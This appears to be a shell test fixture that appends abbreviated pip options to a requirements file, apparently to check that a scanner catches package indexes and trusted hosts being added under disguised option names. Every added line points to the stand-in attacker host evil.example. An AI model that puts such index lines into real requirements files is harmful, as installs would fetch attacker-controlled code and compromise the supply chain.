. "$CASE/../_deps_lib.sh"
# pip reads a long option from any unambiguous prefix, with "=" or a space
# before its value, and every option of an option line: each of these
# adds a package index (checked with pip 23.2's requirements-file parser)
cat >> api/requirements.txt <<'REQ'
--extra https://evil.example/a
--extra-index=https://evil.example/b
--index https://evil.example/c
--find https://evil.example/d
--trusted-host evil.example --extra-index-url https://evil.example/e
--pre --py "https://evil.example/f"
REQ
commit "Add indexes, abbreviated"
